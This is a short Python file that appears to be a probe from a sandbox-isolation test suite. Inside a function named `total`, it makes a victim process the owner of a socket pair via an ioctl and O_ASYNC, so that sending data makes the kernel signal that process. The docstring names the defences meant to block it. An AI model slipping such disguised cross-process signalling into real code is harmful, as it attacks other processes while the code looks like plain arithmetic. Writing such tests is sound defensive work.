"""Makes another process the owner of a pair of sockets, to which the kernel then sends a signal.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces, Landlock, comparison
control: off, the victim is hurt
"""

import ctypes
import fcntl
import json
import os
import socket
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    out, into = socket.socketpair()
    owner = ctypes.c_int(TARGET["victim"])
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ioctl(out.fileno(), 0x8901, ctypes.byref(owner)) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC)
    into.send(b"hello")
    return x
